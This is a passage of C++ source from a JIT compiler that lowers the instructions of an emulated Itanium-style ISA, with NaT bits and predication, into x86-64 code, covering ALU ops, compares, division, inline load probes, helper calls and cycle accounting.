        int32_t disp = int32_t(dp.statIdx) * 8;
        if (mask_.kind == MaskState::Load) {
            if (!((use >> (mask_.loadReg & 63)) & 1))
                return;
            // Statically known to stall.
            e_.aluMemImm32(Emitter::ALU_ADD, R15, kOffCycles, cost);
            e_.aluMemImm32(Emitter::ALU_ADD, R15, kOffStall, cost);
            e_.aluMemImm32(Emitter::ALU_ADD, R12, disp, cost);
            return;
        }
        // Unknown mask (block entry): test at run time.
        int skip = e_.newLabel();
        e_.movRegImm64(RAX, use);
        e_.testRegReg(RAX, RBP);
        e_.jcc(CC_E, skip);
        e_.aluMemImm32(Emitter::ALU_ADD, R15, kOffCycles, cost);
        e_.aluMemImm32(Emitter::ALU_ADD, R15, kOffStall, cost);
        e_.aluMemImm32(Emitter::ALU_ADD, R12, disp, cost);
        e_.bind(skip);
    }

    /** Make rbp logically zero (lazily materialized). */
    void zeroMask()
    {
        if (mask_.kind != MaskState::Zero)
            e_.xorRegReg32(RBP, RBP);
        mask_ = MaskState::zero();
    }

    /**
     * Lower one op with the full front-end framing. Layout for a
     * predicated op (the join point is where fall-through resumes):
     *
     *     [flush] cmp byte [pred+qp], 0 ; je null
     *     [stall check] [body] [flush] jmp join
     *     null: nullified charges ; xor rbp
     *     join:
     */
    bool lowerOp(const std::vector<DecodedInstr> &s, bool inFast,
                 size_t pc)
    {
        const DecodedInstr &dp = s[pc];
        bool term = isTerminator(dp.op);
        int null = -1, join = -1;
        if (dp.qp != 0) {
            pending_.flush(e_);
            null = e_.newLabel();
            if (!term)
                join = e_.newLabel();
            e_.cmpByteMemImm(R13, int32_t(dp.qp), 0);
            e_.jcc(CC_E, null);
        }
        // Ops that bail to the interpreter must not pay the load-use
        // stall here: the interpreter re-runs this op's whole front
        // end (rbp stays live across the exit), so charging it twice
        // would break bit-identity. The async maybe-clean guard sits
        // in the same spot and under the same rule: a bailed op has
        // not retired, so nothing of it may have been charged.
        if (!isExitOp(dp, env_)) {
            if (env_.async)
                emitAsyncGuard(dp, inFast, pc);
            emitStallCheck(dp);
        }
        if (!emitBody(s, inFast, pc))
            return false;
        if (dp.qp != 0) {
            MaskState bodyMask = mask_;
            if (!term) {
                pending_.flush(e_);
                e_.jmp(join);
            }
            e_.bind(null);
            emitChargeNow(dp.statIdx, env_.cycleModel.nullified, 1);
            e_.xorRegReg32(RBP, RBP);
            if (term) {
                // A nullified terminator falls through to pc + 1.
                e_.jmp(blockLabel(inFast, pc + 1));
            } else {
                e_.bind(join);
                mask_ = bodyMask.kind == MaskState::Zero
                            ? MaskState::zero()
                            : MaskState::unknown();
            }
        }
        return true;
    }

    // ---- op bodies -------------------------------------------------

    bool emitBody(const std::vector<DecodedInstr> &s, bool inFast,
                  size_t pc)
    {
        const DecodedInstr &dp = s[pc];
        if (isExitOp(dp, env_)) {
            emitExit(pc, inFast);
            return true;
        }
        switch (dp.op) {
          case Opcode::Nop:
            zeroMask();
            pending_.add(dp.statIdx, env_.cycleModel.alu, 1);
            return true;
          case Opcode::Add:
          case Opcode::Sub:
          case Opcode::Mul:
          case Opcode::And:
          case Opcode::Andcm:
          case Opcode::Or:
          case Opcode::Xor:
          case Opcode::Shl:
          case Opcode::Shr:
          case Opcode::Sar:
          case Opcode::Sxt:
          case Opcode::Zxt:
          case Opcode::Extr:
          case Opcode::Shladd:
          case Opcode::Mov:
          case Opcode::Movi:
            emitAlu(dp);
            return true;
          case Opcode::Cmp:
          case Opcode::CmpNat:
            emitCmp(dp);
            return true;
          case Opcode::Tnat:
            emitTnat(dp);
            return true;
          case Opcode::Div:
          case Opcode::Mod:
          case Opcode::DivU:
          case Opcode::ModU:
            emitDivMod(dp, pc, inFast);
            return true;
          case Opcode::Tbit:
            emitTbit(dp);
            return true;
          case Opcode::MovFromBr:
            emitMovFromBr(dp);
            return true;
          case Opcode::Setnat:
          case Opcode::Clrnat:
            zeroMask();
            // gpr_[r1].nat = (setnat && r1 != zero); direct, unlike
            // setGpr (the interpreter writes the field itself).
            e_.movByteMemImm(R14, gprNat(dp.r1),
                             dp.op == Opcode::Setnat && dp.r1 != 0);
            pending_.add(dp.statIdx, env_.cycleModel.alu, 1);
            return true;
          case Opcode::FusedTagAddr:
            emitFusedTagAddr(dp);
            return true;
          case Opcode::Chk:
            emitChk(dp, inFast, pc);
            return true;
          case Opcode::Br:
            zeroMask();
            pending_.add(dp.statIdx, env_.cycleModel.branchTaken, 1);
            pending_.flush(e_);
            emitBranchTarget(inFast, size_t(dp.target));
            return true;
          case Opcode::BrCall:
            if (dp.callee >= 0)
                emitTransferCall(dp, &JitOps::call, pc, inFast);
            else
                emitLinkedCall(dp, &JitOps::builtin, pc, inFast);
            return true;
          case Opcode::BrCalli:
            emitTransferCall(dp, &JitOps::calli, pc, inFast);
            return true;
          case Opcode::BrRet:
            emitTransferCall(dp, &JitOps::ret, pc, inFast);
            return true;
          case Opcode::Syscall:
            emitLinkedCall(dp, &JitOps::syscall, pc, inFast);
            return true;
          case Opcode::Ld:
            // Plain and fill loads get the inline translation-cache
            // fast path; spec forms keep the helper (NaT deferral).
            if (!dp.spec && (dp.fill || memSizeSupported(dp.size))) {
                emitLd(dp, pc, inFast);
                return true;
            }
            break;
          case Opcode::St:
            if (dp.spill || memSizeSupported(dp.size)) {
                emitSt(dp, pc, inFast);
                return true;
            }
            break;
          case Opcode::FusedClearNat:
            if (dp.r1 != dp.r3) {
                emitClearNat(dp, pc, inFast);
                return true;
            }
            break;
          case Opcode::FusedChkByte:
            // The inline body reads r2 before writing r1/r3 and
            // writes r1 after r3; aliases that would observe the
            // helper's interleaved intermediates keep the helper.
            if (dp.r1 != 0 && dp.r3 != 0 && dp.r1 != dp.r3 &&
                dp.r2 != dp.r1 && dp.r2 != dp.r3) {
                emitChkByte(dp, pc, inFast);
                return true;
            }
            break;
          case Opcode::MovToBr:
            emitMovToBr(dp, pc, inFast);
            return true;
          case Opcode::MovToUnat:
            emitMovToUnat(dp, pc, inFast);
            return true;
          case Opcode::MovFromUnat:
            emitMovFromUnat(dp);
            return true;
          case Opcode::FpEnter:
            emitFpEnter(dp, pc, inFast);
            return true;
          case Opcode::FpChkProbe:
            emitFpChk(dp, pc, inFast);
            return true;
          case Opcode::FpStProbe:
            emitFpSt(dp, pc, inFast);
            return true;
          case Opcode::FpClrProbe:
            emitFpClr(dp, pc, inFast);
            return true;
          default:
            break;
        }
        HelperFn fn = helperFor(dp.op);
        if (!fn)
            return false; // unknown op: let the interpreter have it
        emitHelperCall(dp, fn, pc, inFast);
        return true;
    }

    /**
     * Async tier: test every guard register's maybe bit and bail to
     * the interpreter (which emits the taint event and re-runs the op
     * under full async semantics) when any is set. The nat-clean path
     * falls through into the unchanged synchronous body, which is
     * then provably identical to the async interpreter's: no event
     * fires (the filter drops it) and every NaT it writes is clear.
     */
    void emitAsyncGuard(const DecodedInstr &dp, bool inFast, size_t pc)
    {
        unsigned regs[3];
        unsigned n = asyncGuardRegs(dp, regs);
        if (n == 0)
            return;
        // Retired predecessors' coalesced charges must land before
        // any exit this guard takes.
        pending_.flush(e_);
        int bail = e_.newLabel();
        stubs_.push_back({bail, blockLen_ - opIndex_, int32_t(pc),
                          inFast ? 1 : 0});
        for (unsigned i = 0; i < n; ++i) {
            e_.cmpByteMemImm(R14, gprNat(regs[i]), 0);
            e_.jcc(CC_NE, bail);
        }
    }

    /** Bail: hand this pc back to the interpreter via the epilogue. */
    void emitExit(size_t pc, bool inFast)
    {
        pending_.flush(e_);
        e_.movMemImm32(R15, kOffExitPc, int32_t(pc));
        e_.movMemImm32(R15, kOffExitInFast, inFast ? 1 : 0);
        // This op did not retire here; refund it and everything after.
        e_.aluMemImm32(Emitter::ALU_ADD, R15, kOffStepsLeft,
                       blockLen_ - opIndex_);
        e_.jmp(epilogue_);
    }

    /**
     * rax = src2 value (imm or r3). Returns false when it emitted an
     * in-place ALU op against dst instead (imm32 / memory forms).
     */
    void loadSrc2(const DecodedInstr &dp, Reg dst)
    {
        if (dp.useImm)
            e_.movRegImm64(dst, uint64_t(dp.imm));
        else
            e_.movRegMem(dst, R14, gprVal(dp.r3));
    }

    /** dst (op)= src2, using the tightest encoding. */
    void aluSrc2(Emitter::Alu op, Reg dst, const DecodedInstr &dp)
    {
        if (dp.useImm) {
            if (fitsInt32(dp.imm)) {
                e_.aluRegImm32(op, dst, int32_t(dp.imm));
            } else {
                e_.movRegImm64(RCX, uint64_t(dp.imm));
                e_.aluRegReg(op, dst, RCX);
            }
        } else {
            e_.aluRegMem(op, dst, R14, gprVal(dp.r3));
        }
    }

    /** rdx = src1.nat || src2.nat (0/1 in the full register). */
    void emitNatOr(const DecodedInstr &dp)
    {
        e_.movzxByteMem(RDX, R14, gprNat(dp.r2));
        if (!dp.useImm) {
            e_.movzxByteMem(RCX, R14, gprNat(dp.r3));
            e_.aluRegReg32(Emitter::ALU_OR, RDX, RCX);
        }
    }

    void storeGpr(unsigned r, Reg val, Reg nat)
    {
        if (r == 0)
            return; // r0 is hardwired zero (setGpr skips it)
        e_.movMemReg(R14, gprVal(r), val);
        e_.movByteMemReg(R14, gprNat(r), nat);
    }

    void emitAlu(const DecodedInstr &dp)
    {
        zeroMask();
        uint64_t cost = env_.cycleModel.alu;
        if (dp.op == Opcode::Movi) {
            loadSrc2(dp, RAX);
            if (dp.r1 != 0) {
                e_.movMemReg(R14, gprVal(dp.r1), RAX);
                e_.movByteMemImm(R14, gprNat(dp.r1), 0);
            }
            pending_.add(dp.statIdx, cost, 1);
            return;
        }
        e_.movRegMem(RAX, R14, gprVal(dp.r2));
        switch (dp.op) {
          case Opcode::Add:
            aluSrc2(Emitter::ALU_ADD, RAX, dp);
            break;
          case Opcode::Sub:
            aluSrc2(Emitter::ALU_SUB, RAX, dp);
            break;
          case Opcode::And:
            aluSrc2(Emitter::ALU_AND, RAX, dp);
            break;
          case Opcode::Or:
            aluSrc2(Emitter::ALU_OR, RAX, dp);
            break;
          case Opcode::Xor:
            aluSrc2(Emitter::ALU_XOR, RAX, dp);
            break;
          case Opcode::Andcm:
            if (dp.useImm) {
                uint64_t m = ~uint64_t(dp.imm);
                if (fitsInt32(int64_t(m))) {
                    e_.aluRegImm32(Emitter::ALU_AND, RAX, int32_t(m));
                } else {
                    e_.movRegImm64(RCX, m);
                    e_.aluRegReg(Emitter::ALU_AND, RAX, RCX);
                }
            } else {
                e_.movRegMem(RCX, R14, gprVal(dp.r3));
                e_.notReg(RCX);
                e_.aluRegReg(Emitter::ALU_AND, RAX, RCX);
            }
            break;
          case Opcode::Mul:
            cost = env_.cycleModel.mul;
            loadSrc2(dp, RCX);
            e_.imulRegReg(RAX, RCX);
            break;
          case Opcode::Shl:
          case Opcode::Shr:
          case Opcode::Sar:
            emitShift(dp);
            break;
          case Opcode::Sxt:
            if (dp.size != 8)
                e_.movsxReg(RAX, RAX, dp.size);
            break;
          case Opcode::Zxt:
            if (dp.size != 8)
                e_.movzxReg(RAX, RAX, dp.size);
            break;
          case Opcode::Extr: {
            e_.shiftRegImm(Emitter::SH_SHR, RAX, dp.pos);
            uint64_t m = lowMask(dp.len ? dp.len : 64);
            if (m != ~uint64_t(0)) {
                if (fitsInt32(int64_t(m))) {
                    e_.aluRegImm32(Emitter::ALU_AND, RAX, int32_t(m));
                } else {
                    e_.movRegImm64(RCX, m);
                    e_.aluRegReg(Emitter::ALU_AND, RAX, RCX);
                }
            }
            break;
          }
          case Opcode::Shladd:
            e_.shiftRegImm(Emitter::SH_SHL, RAX, dp.pos);
            aluSrc2(Emitter::ALU_ADD, RAX, dp);
            break;
          case Opcode::Mov:
            break;
          default:
            SHIFT_ASSERT(false, "emitAlu opcode");
        }
        emitNatOr(dp);
        storeGpr(dp.r1, RAX, RDX);
        pending_.add(dp.statIdx, cost, 1);
    }

    /** shiftAmount(): amounts above 63 saturate (0, or the sign). */
    void emitShift(const DecodedInstr &dp)
    {
        Emitter::Shift sh = dp.op == Opcode::Shl   ? Emitter::SH_SHL
                            : dp.op == Opcode::Shr ? Emitter::SH_SHR
                                                   : Emitter::SH_SAR;
        if (dp.useImm) {
            uint64_t amt = uint64_t(dp.imm);
            if (amt > 63) {
                if (dp.op == Opcode::Sar)
                    e_.shiftRegImm(Emitter::SH_SAR, RAX, 63);
                else
                    e_.xorRegReg32(RAX, RAX);
            } else {
                e_.shiftRegImm(sh, RAX, uint8_t(amt));
            }
            return;
        }
        e_.movRegMem(RCX, R14, gprVal(dp.r3));
        int big = e_.newLabel(), done = e_.newLabel();
        e_.cmpRegImm32(RCX, 63);
        e_.jcc(CC_A, big); // unsigned: negative amounts saturate too
        e_.shiftRegCl(sh, RAX);
        e_.jmp(done);
        e_.bind(big);
        if (dp.op == Opcode::Sar)
            e_.shiftRegImm(Emitter::SH_SAR, RAX, 63);
        else
            e_.xorRegReg32(RAX, RAX);
        e_.bind(done);
    }

    void emitCmp(const DecodedInstr &dp)
    {
        zeroMask();
        Cond cc = condFor(dp.rel);
        // Zero the setcc homes before the compare (xor clobbers flags).
        e_.xorRegReg32(RDX, RDX);
        if (dp.p2 != 0)
            e_.xorRegReg32(R8, R8);
        e_.movRegMem(RAX, R14, gprVal(dp.r2));
        if (dp.useImm && fitsInt32(dp.imm)) {
            e_.cmpRegImm32(RAX, int32_t(dp.imm));
        } else {
            loadSrc2(dp, RCX);
            e_.aluRegReg(Emitter::ALU_CMP, RAX, RCX);
        }
        e_.setcc(cc, RDX);
        if (dp.p2 != 0)
            e_.setcc(Cond(cc ^ 1), R8);
        if (dp.op == Opcode::Cmp && !env_.async) {
            // A NaT operand clears both predicates. Under the async
            // tier maybe bits are not architectural NaTs and the
            // predicates compute normally (the consumer replays the
            // instrumenter's compare-alert markers instead).
            e_.movzxByteMem(RCX, R14, gprNat(dp.r2));
            if (!dp.useImm) {
                e_.movzxByteMem(R9, R14, gprNat(dp.r3));
                e_.aluRegReg32(Emitter::ALU_OR, RCX, R9);
            }
            e_.aluRegImm32(Emitter::ALU_XOR, RCX, 1);
            e_.aluRegReg32(Emitter::ALU_AND, RDX, RCX);
            if (dp.p2 != 0)
                e_.aluRegReg32(Emitter::ALU_AND, R8, RCX);
        }
        if (dp.p1 != 0)
            e_.movByteMemReg(R13, int32_t(dp.p1), RDX);
        if (dp.p2 != 0)
            e_.movByteMemReg(R13, int32_t(dp.p2), R8);
        pending_.add(dp.statIdx, env_.cycleModel.alu, 1);
    }

    void emitTnat(const DecodedInstr &dp)
    {
        zeroMask();
        if (env_.async) {
            // Maybe bits are not architectural NaTs: tnat always
            // reads clean under the async tier (the engine replays
            // the uninstrumented stream, docs/ASYNC-TAINT.md).
            if (dp.p1 != 0)
                e_.movByteMemImm(R13, int32_t(dp.p1), 0);
            if (dp.p2 != 0)
                e_.movByteMemImm(R13, int32_t(dp.p2), 1);
            pending_.add(dp.statIdx, env_.cycleModel.alu, 1);
            return;
        }
        e_.movzxByteMem(RAX, R14, gprNat(dp.r2));
        if (dp.p1 != 0)
            e_.movByteMemReg(R13, int32_t(dp.p1), RAX);
        if (dp.p2 != 0) {
            e_.aluRegImm32(Emitter::ALU_XOR, RAX, 1);
            e_.movByteMemReg(R13, int32_t(dp.p2), RAX);
        }
        pending_.add(dp.statIdx, env_.cycleModel.alu, 1);
    }

    void emitTbit(const DecodedInstr &dp)
    {
        zeroMask();
        e_.movRegMem(RAX, R14, gprVal(dp.r2));
        e_.shiftRegImm(Emitter::SH_SHR, RAX, uint8_t(dp.imm & 63));
        e_.aluRegImm32(Emitter::ALU_AND, RAX, 1);
        if (env_.async) {
            // Async: maybe bits never clear predicates.
            if (dp.p2 != 0) {
                e_.movRegReg(RDX, RAX);
                e_.aluRegImm32(Emitter::ALU_XOR, RDX, 1); // !b
            }
        } else {
            e_.movzxByteMem(RCX, R14, gprNat(dp.r2));
            e_.aluRegImm32(Emitter::ALU_XOR, RCX, 1); // !nat
            if (dp.p2 != 0) {
                e_.movRegReg(RDX, RAX);
                e_.aluRegImm32(Emitter::ALU_XOR, RDX, 1); // !b
                e_.aluRegReg32(Emitter::ALU_AND, RDX, RCX);
            }
            e_.aluRegReg32(Emitter::ALU_AND, RAX, RCX);
        }
        if (dp.p1 != 0)
            e_.movByteMemReg(R13, int32_t(dp.p1), RAX);
        if (dp.p2 != 0)
            e_.movByteMemReg(R13, int32_t(dp.p2), RDX);
        pending_.add(dp.statIdx, env_.cycleModel.alu, 1);
    }

    void emitMovFromBr(const DecodedInstr &dp)
    {
        zeroMask();
        e_.movRegMem(RAX, R15, kOffBrRegs);
        e_.movRegMem(RAX, RAX, int32_t(dp.br) * 8);
        if (dp.r1 != 0) {
            e_.movMemReg(R14, gprVal(dp.r1), RAX);
            e_.movByteMemImm(R14, gprNat(dp.r1), 0);
        }
        pending_.add(dp.statIdx, env_.cycleModel.alu, 1);
    }

    void emitFusedTagAddr(const DecodedInstr &dp)
    {
        zeroMask();
        // t1 = (a >> pos) & lowMask(len); t0 = ((a >> 61) & 7) << imm | t1
        e_.movRegMem(RAX, R14, gprVal(dp.r2));
        e_.movRegReg(RCX, RAX);
        e_.shiftRegImm(Emitter::SH_SHR, RCX, dp.pos);
        uint64_t m = lowMask(dp.len);
        if (fitsInt32(int64_t(m))) {
            e_.aluRegImm32(Emitter::ALU_AND, RCX, int32_t(m));
        } else {
            e_.movRegImm64(R8, m);
            e_.aluRegReg(Emitter::ALU_AND, RCX, R8);
        }
        e_.shiftRegImm(Emitter::SH_SHR, RAX, 61);
        e_.aluRegImm32(Emitter::ALU_AND, RAX, 7);
        e_.shiftRegImm(Emitter::SH_SHL, RAX, uint8_t(dp.imm));
        e_.aluRegReg(Emitter::ALU_OR, RAX, RCX);
        e_.movzxByteMem(RDX, R14, gprNat(dp.r2));
        storeGpr(dp.r3, RCX, RDX);
        storeGpr(dp.r1, RAX, RDX);
        pending_.add(dp.statIdx, 4 * env_.cycleModel.alu, 4);
    }

    void emitChk(const DecodedInstr &dp, bool inFast, size_t pc)
    {
        zeroMask();
        pending_.flush(e_);
        if (env_.async) {
            // Maybe bits are not architectural NaTs: chk never
            // recovers under the async tier (explicit speculation is
            // outside its envelope, docs/ASYNC-TAINT.md).
            emitChargeNow(dp.statIdx, env_.cycleModel.branch, 1);
            e_.jmp(blockLabel(inFast, pc + 1));
            return;
        }
        int notTaken = e_.newLabel();
        e_.cmpByteMemImm(R14, gprNat(dp.r2), 0);
        e_.jcc(CC_E, notTaken);
        emitChargeNow(dp.statIdx, env_.cycleModel.branchTaken, 1);
        emitBranchTarget(inFast, size_t(dp.target));
        e_.bind(notTaken);
        emitChargeNow(dp.statIdx, env_.cycleModel.branch, 1);
        e_.jmp(blockLabel(inFast, pc + 1));
    }

    /**
     * The interpreter's maybeFast, resolved statically per target: a
     * slow-stream taken branch promotes into the target's fast twin
     * unless the twin's entry superblock is cold (checked at run time
     * through ctx->fpCold).
     */
    void emitBranchTarget(bool inFast, size_t target)
    {
        if (inFast || !env_.fastEnabled || df_.fast.empty()) {
            e_.jmp(blockLabel(inFast, target));
            return;
        }
        int32_t fe = df_.fastEntry[target];
        if (fe < 0) {
            e_.jmp(blockLabel(false, target));
            return;
        }
        const DecodedInstr &head = df_.fast[size_t(fe)];
        if (!isEntryHead(head)) {
            e_.jmp(blockLabel(true, size_t(fe)));
            return;
        }
        int hot = e_.newLabel();
        e_.movRegMem(RAX, R15, kOffFpCold);
        e_.cmpByteMemImm(RAX, head.callee, 0);
        e_.jcc(CC_E, hot);
        e_.aluMemImm32(Emitter::ALU_ADD, R15, kOffColdBails, 1);
        e_.jmp(blockLabel(false, target));
        e_.bind(hot);
        e_.jmp(blockLabel(true, size_t(fe)));
    }

    /**
     * Inline host div/idiv for the common case; the edges where x86
     * division disagrees with (or traps on) the ISA semantics — a
     * zero divisor (NaT-aware fault) and the signed INT64_MIN / -1
     * overflow — take the C++ helper, which replays the interpreter
     * exactly. The -1 test covers the overflow pair without a second
     * compare against the dividend.
     */
    void emitDivMod(const DecodedInstr &dp, size_t pc, bool inFast)
    {
        const bool sgn = dp.op == Opcode::Div || dp.op == Opcode::Mod;
        const bool mod = dp.op == Opcode::Mod || dp.op == Opcode::ModU;
        zeroMask();
        pending_.flush(e_);
        int slow = e_.newLabel();
        int cont = e_.newLabel();
        if (dp.useImm)
            e_.movRegImm64(RSI, uint64_t(dp.imm));
        else
            e_.movRegMem(RSI, R14, gprVal(dp.r3));
        e_.testRegReg(RSI, RSI);
        e_.jcc(CC_E, slow);
        if (sgn) {
            e_.cmpRegImm32(RSI, -1);
            e_.jcc(CC_E, slow);
        }
        e_.movRegMem(RAX, R14, gprVal(dp.r2));
        if (sgn) {
            e_.cqo();
            e_.idivReg(RSI);
        } else {
            e_.xorRegReg32(RDX, RDX);
            e_.divReg(RSI);
        }
        if (mod)
            e_.movRegReg(RAX, RDX);
        emitNatOr(dp); // rdx = nat union (quotient already out of rdx)
        storeGpr(dp.r1, RAX, RDX);
        emitChargeNow(dp.statIdx, env_.cycleModel.div, 1);
        e_.jmp(cont);
        e_.bind(slow);
        emitHelperCall(dp, &JitOps::divmod, pc, inFast);
        e_.bind(cont);
    }

    void emitHelperCall(const DecodedInstr &dp, HelperFn fn, size_t pc,
                        bool inFast)
    {
        pending_.flush(e_);
        // Materialize the front end's loadMask for this op: a load's
        // own destination bit, zero for everything else. It must also
        // be in ctx before the call so a faulting helper spills the
        // exact interpreter state.
        if (dp.op == Opcode::Ld) {
            e_.movRegImm64(RBP, 1ULL << (dp.r1 & 63));
            mask_ = MaskState::load(dp.r1);
        } else {
            zeroMask();
        }
        e_.movMemReg(R15, kOffLoadMask, RBP);
        e_.movRegReg(RDI, R15);
        e_.movRegImm64(RSI, reinterpret_cast<uint64_t>(&dp));
        e_.movRegImm64(RDX,
                       uint64_t(pc) | (inFast ? (1ULL << 32) : 0));
        e_.movRegImm64(RAX, reinterpret_cast<uint64_t>(
                                reinterpret_cast<void *>(fn)));
        e_.callReg(RAX);
        e_.testRegReg32(RAX, RAX);
        int cont = e_.newLabel();
        e_.jcc(CC_E, cont);
        int32_t refund = blockLen_ - opIndex_ - 1;
        if (refund)
            e_.aluMemImm32(Emitter::ALU_ADD, R15, kOffStepsLeft,
                           refund);
        if (isProbeOp(dp.op)) {
            // Alt edge: the probe's deopt/cold-bail target, compiled
            // as a static jump into the slow stream.
            e_.jmp(blockLabel(false, size_t(dp.target)));
        } else {
            // Fault: the helper spilled state; leave via the epilogue.
            e_.jmp(epilogue_);
        }
        e_.bind(cont);
        if (dp.op == Opcode::FusedClearNat) {
            // Its last constituent is a load (the helper set
            // ctx->loadMask on the continue path).
            e_.movRegImm64(RBP, 1ULL << (dp.r1 & 63));
            mask_ = MaskState::load(dp.r1);
        }
    }

    /**
     * The translation-cache probe shared by the inline Ld/St bodies:
     * rsi holds the address on entry; on success rax points at the
     * backing byte and code falls through. Every miss condition jumps
     * to `slow` (the full helper). Mirrors Memory::read/write's
     * inline paths except for the tag region, which always takes the
     * helper: its accesses use the dedicated cache slot, and stores
     * there must mark the taint summary.
     */
    void emitTlbProbe(int slow, unsigned size, bool forWrite)
    {
        // Tag-region addresses (region 0) out first: shr leaves the
        // region number and sets ZF from it.
        static_assert(kTagRegion == 0,
                      "the probe's region test assumes tag == 0");
        e_.movRegReg(RCX, RSI);
        e_.shiftRegImm(Emitter::SH_SHR, RCX, kRegionShift);
        e_.jcc(CC_E, slow);
        // rdx = page key; rax = &tlb[key % entries] (entries are 24
        // bytes: idx*24 = idx*8 + idx*16).
        e_.movRegReg(RDX, RSI);
        e_.shiftRegImm(Emitter::SH_SHR, RDX, Memory::kPageShift);
        e_.movRegReg(RAX, RDX);
        e_.aluRegImm32(Emitter::ALU_AND, RAX,
                       int32_t(Memory::kJitTlbEntries - 1));
        e_.movRegReg(RCX, RAX);
        e_.shiftRegImm(Emitter::SH_SHL, RAX, 3);
        e_.shiftRegImm(Emitter::SH_SHL, RCX, 4);
        e_.aluRegReg(Emitter::ALU_ADD, RAX, RCX);
        e_.aluRegMem(Emitter::ALU_ADD, RAX, R15, kOffTlb);
        e_.aluRegMem(Emitter::ALU_CMP, RDX, RAX, kTlbKeyOff);
        e_.jcc(CC_NE, slow);
        if (forWrite) {
            // Only exclusively-owned pages may be written in place.
            e_.cmpByteMemImm(RAX, kTlbWritableOff, 0);
            e_.jcc(CC_E, slow);
        }
        // In-page: off <= pageSize - size, then rax = &page->data[off]
        // (r8 keeps the raw page pointer and rcx the offset: the
        // spill/fill bodies address the NaT sidecar through them).
        e_.movRegReg(RCX, RSI);
        e_.aluRegImm32(Emitter::ALU_AND, RCX,
                       int32_t(Memory::kPageSize - 1));
        e_.cmpRegImm32(RCX, int32_t(Memory::kPageSize - size));
        e_.jcc(CC_A, slow);
        e_.movRegMem(R8, RAX, kTlbPageOff);
        e_.movRegReg(RAX, R8);
        e_.aluRegReg(Emitter::ALU_ADD, RAX, RCX);
    }

    /** Call a retire leaf: rdi=ctx, rsi=addr (already live), rdx=idx. */
    void emitRetireCall(void (*fn)(JitCtx *, uint64_t, uint64_t),
                        unsigned statIdx)
    {
        e_.movRegReg(RDI, R15);
        e_.movRegImm64(RDX, statIdx);
        e_.movRegImm64(RAX, reinterpret_cast<uint64_t>(
                                reinterpret_cast<void *>(fn)));
        e_.callReg(RAX);
    }

    /**
     * rcx = the NaT-sidecar bit index of the in-page offset in rcx,
     * r9 = the address of the sidecar word holding it (r8 = page on
     * entry). The hardware's shift-count masking supplies the `& 63`:
     * cl never exceeds 511 >> 3.
     */
    void emitNatSidecarAddr()
    {
        e_.movRegReg(R9, RCX);
        e_.shiftRegImm(Emitter::SH_SHR, R9, 9); // sidecar word index
        e_.shiftRegImm(Emitter::SH_SHL, R9, 3);
        e_.aluRegReg(Emitter::ALU_ADD, R9, R8);
        e_.aluRegImm32(Emitter::ALU_ADD, R9,
                       int32_t(Memory::kJitPageNatOff));
        e_.shiftRegImm(Emitter::SH_SHR, RCX, 3); // word's bit index
    }

    /**
     * The NaT half of an inline spill store: deposit `srcReg`'s NaT
     * bit into the page sidecar (r8 = page, rcx = in-page offset) and
     * into ar.unat at the word's address bit (rsi = address). Mirrors
     * Memory::writeSpill's sidecar update plus the helper's
     * insertBit on Machine::unat_.
     */
    void emitSpillNatWrite(unsigned srcReg)
    {
        emitNatSidecarAddr();
        e_.movRegImm64(RAX, 1);
        e_.shiftRegCl(Emitter::SH_SHL, RAX); // mask = 1 << bit
        e_.movzxByteMem(R10, R14, gprNat(srcReg));
        e_.shiftRegCl(Emitter::SH_SHL, R10); // nat ? mask : 0
        e_.movRegMem(R11, R9, 0);
        e_.notReg(RAX);
        e_.aluRegReg(Emitter::ALU_AND, R11, RAX);
        e_.aluRegReg(Emitter::ALU_OR, R11, R10);
        e_.movMemReg(R9, 0, R11);
        // ar.unat tracks the same bit keyed by the word address.
        e_.movRegReg(RCX, RSI);
        e_.shiftRegImm(Emitter::SH_SHR, RCX, 3);
        e_.movRegImm64(RAX, 1);
        e_.shiftRegCl(Emitter::SH_SHL, RAX);
        e_.movzxByteMem(R10, R14, gprNat(srcReg));
        e_.shiftRegCl(Emitter::SH_SHL, R10);
        e_.movRegMem(R9, R15, kOffUnat);
        e_.movRegMem(R11, R9, 0);
        e_.notReg(RAX);
        e_.aluRegReg(Emitter::ALU_AND, R11, RAX);
        e_.aluRegReg(Emitter::ALU_OR, R11, R10);
        e_.movMemReg(R9, 0, R11);
    }

    /**
     * Plain Ld: inline the translation-cache-hit body (address read,
     * NaT test, probe, data move, destination write) and call the
     * retire leaf for the counters, cache model and charges. Any miss
     * condition takes the full helper, whose own fast path re-probes
     * at trivial cost and whose slow path handles faults, demand maps
     * and cache fills. The ld8.fill form rides the same skeleton with
     * the destination NaT read from the page sidecar instead of
     * cleared.
     */
    void emitLd(const DecodedInstr &dp, size_t pc, bool inFast)
    {
        pending_.flush(e_);
        e_.movRegImm64(RBP, 1ULL << (dp.r1 & 63));
        mask_ = MaskState::load(dp.r1);
        int slow = e_.newLabel();
        int done = e_.newLabel();
        e_.movRegMem(RSI, R14, gprVal(dp.r2));
        e_.cmpByteMemImm(R14, gprNat(dp.r2), 0);
        e_.jcc(CC_NE, slow);
        emitTlbProbe(slow, dp.fill ? 8 : dp.size, false);
        if (dp.fill) {
            e_.movRegMem(RDX, RAX, 0);
            emitNatSidecarAddr();
            e_.movRegMem(R10, R9, 0);
            e_.shiftRegCl(Emitter::SH_SHR, R10);
            e_.aluRegImm32(Emitter::ALU_AND, R10, 1);
            if (dp.r1 != 0) {
                e_.movMemReg(R14, gprVal(dp.r1), RDX);
                e_.movByteMemReg(R14, gprNat(dp.r1), R10);
            }
        } else {
            switch (dp.size) {
              case 1: e_.movzxByteMem(RDX, RAX, 0); break;
              case 2: e_.movzxWordMem(RDX, RAX, 0); break;
              case 4: e_.movRegMem32(RDX, RAX, 0); break;
              default: e_.movRegMem(RDX, RAX, 0); break;
            }
            if (dp.r1 != 0) { // r0 is hardwired (setGpr drops it)
                e_.movMemReg(R14, gprVal(dp.r1), RDX);
                e_.movByteMemImm(R14, gprNat(dp.r1), 0);
            }
        }
        emitRetireCall(&JitOps::ldRetire, dp.statIdx);
        e_.jmp(done);
        e_.bind(slow);
        emitHelperCall(dp, &JitOps::ld, pc, inFast);
        e_.bind(done);
    }

    /**
     * Merged superblock-entry handling for an inline probe body, in
     * two halves. The cold test must run where the interpreter runs
     * it (a cold block bails without counting an entry), but the
     * entry counting is deferred to the probe's clean end: every
     * non-cold path through the interpreter's handler counts exactly
     * one entry whether or not the probe then deopts, so the inline
     * body may count at the end and let the slow-path helper (which
     * replays the whole handler) count the deopt cases itself.
     */
    void emitProbeCold(const DecodedInstr &dp, int slow, bool always)
    {
        if (!always && !(dp.p2 & 4))
            return;
